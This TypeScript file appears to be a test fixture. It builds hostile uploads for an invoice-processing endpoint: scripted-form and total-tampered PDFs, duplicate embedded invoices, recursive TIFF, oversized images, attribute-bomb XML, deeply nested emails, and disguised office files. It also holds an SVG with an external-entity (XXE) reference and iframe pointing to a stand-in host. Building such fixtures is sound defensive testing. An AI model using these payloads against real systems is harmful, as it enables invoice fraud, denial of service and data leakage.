import { createCanvas } from '@napi-rs/canvas';
import { zip } from './archive-shapes.ts';
import { type HostileRow, hostileList } from './hostile-file.ts';
import * as layered from './layered-shapes.ts';
import { hybridPdf, textPdf } from './pdf-files.ts';
import { hostileBill } from './xml-files.ts';

const bill = (number: string, amount = '119.00'): string => hostileBill({ number, amount });
const factur = (content: string | Buffer): Buffer => hybridPdf([{ name: 'factur-x.xml', content }]);

const PDFS: readonly HostileRow[] = [
  ['a form whose fields run scripts, in two techniques', 'form.pdf', layered.scriptedFormPdf],
  ['a hundred thousand links on one page', 'links.pdf', () => layered.linkedPdf(100_000)],
  ['packed objects in a ring with a packed table', 'packed-ring.pdf', layered.packedRingPdf],
  ['saved again with another total', 'changed.pdf', () => layered.changedTotalPdf('119.00', '9119.00')],
  ['one total shown and another printed', 'layers.pdf', () => layered.layeredPdf('9119.00', '119.00')],
  ['a bill of XML in a comment behind its end', 'comment.pdf', () => layered.commentedPdf(bill('L-1'))],
  [
    'two different bills inside under one name',
    'two-inside.pdf',
    () =>
      hybridPdf([
        { name: 'factur-x.xml', content: bill('L-2', '119.00') },
        { name: 'factur-x.xml', content: bill('L-2', '9119.00') },
      ]),
  ],
  [
    'two different bills inside under two names',
    'two-names.pdf',
    () =>
      hybridPdf([
        { name: 'factur-x.xml', content: bill('L-3', '119.00') },
        { name: 'zugferd-invoice.xml', content: bill('L-3', '9119.00') },
      ]),
  ],
  [
    'a packed archive inside where its bill should be',
    'archive-inside.pdf',
    () => factur(zip([{ name: 'factur-x.xml', content: Buffer.from(bill('L-4')) }])),
  ],
  ['a PDF inside where its bill should be', 'pdf-inside.pdf', () => factur(factur(bill('L-5')))],
];

const drawing = `<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://192.0.2.1/svg11.dtd" [<!ENTITY % out SYSTEM "http://192.0.2.1/a.dtd"> %out;]>
<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"><foreignObject width="400" height="300"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://192.0.2.1/"/><form action="http://192.0.2.1/"><input name="total" value="119.00"/></form></body></foreignObject><use href="http://192.0.2.1/a.svg#a"/></svg>`;

const PICTURES: readonly HostileRow[] = [
  ['a TIFF whose folder is its own next and its own child', 'self.tif', layered.selfTiff],
  [
    'a WebP that says it is sixteen million a side',
    'canvas.webp',
    () => layered.hugeWebp(createCanvas(64, 64).encodeSync('webp', 50)),
  ],
  ['a HEIC of boxes in boxes that end before they begin', 'boxes.heic', layered.boxedHeic],
  ['a PNG that moves without end', 'moving.png', () => layered.movingPng(3_000)],
  ['a drawing that holds a web page', 'page.svg', () => drawing],
];

/** Every sign in four bytes, with its mark of order before it. */
const inFourBytes = (text: string, order: 'LE' | 'BE'): Buffer => {
  const signs = [...`\ufeff${text}`].map((sign) => sign.codePointAt(0) ?? 0);
  const made = Buffer.alloc(signs.length * 4);
  for (const [at, sign] of signs.entries()) {
    if (order === 'LE') made.writeUInt32LE(sign, at * 4);
    else made.writeUInt32BE(sign, at * 4);
  }
  return made;
};

const XMLS: readonly HostileRow[] = [
  [
    'a million attributes over a thousand elements',
    'thousand.xml',
    () =>
      `<Invoice>${`<a ${Array.from({ length: 1_000 }, (_, at) => `a${at}="1"`).join(' ')}/>`.repeat(1_000)}</Invoice>`,
  ],
  ['a million attributes on one element', 'million.xml', () => `<Invoice ${'a="1" '.repeat(1_000_000)}/>`],
  ['UTF-32 from its low end', 'four-le.xml', () => inFourBytes(bill('L-6'), 'LE')],
  ['UTF-32 from its high end', 'four-be.xml', () => inFourBytes(bill('L-7'), 'BE')],
];

const office = (parts: Readonly<Record<string, string>>): Buffer =>
  zip(Object.entries(parts).map(([name, content]) => ({ name, content: Buffer.from(content) })));

/** A letter that holds a letter, so many times, with a bill in the innermost. */
const letterInLetter = (times: number): string => {
  let inner = `Content-Type: application/pdf; name="bill.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n${textPdf(['Invoice 31']).toString('base64')}`;
  for (let at = 0; at < times; at += 1) {
    inner = `Content-Type: multipart/mixed; boundary="b${at}"\r\n\r\n--b${at}\r\nContent-Type: message/rfc822\r\n\r\nFrom: a@example.com\r\nSubject: ${at}\r\nMIME-Version: 1.0\r\n${inner}\r\n--b${at}--`;
  }
  return `From: a@example.com\r\nTo: b@example.com\r\nSubject: Bill\r\nMIME-Version: 1.0\r\n${inner}\r\n`;
};

const DISGUISED: readonly HostileRow[] = [
  [
    'an Excel sheet named .pdf',
    'sheet.pdf',
    () => office({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>', 'xl/vbaProject.bin': 'x' }),
  ],
  [
    'an OpenDocument sheet named .pdf',
    'calc.pdf',
    () => office({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet', 'content.xml': '<a/>' }),
  ],
  ['a letter in a letter in a letter', 'nested.eml', () => letterInLetter(60)],
  ['a letter in a letter named .xml', 'nested.xml', () => letterInLetter(3)],
  [
    'an archive that holds a hybrid bill',
    'hybrid.zip',
    () => zip([{ name: 'bill.pdf', content: factur(bill('L-8')) }]),
  ],
];

/** Harm inside of something else: what is seen first is not what is meant. */
export const LAYERED_FILES = hostileList('layered', '/v1/documents', [...PDFS, ...PICTURES, ...XMLS, ...DISGUISED]);
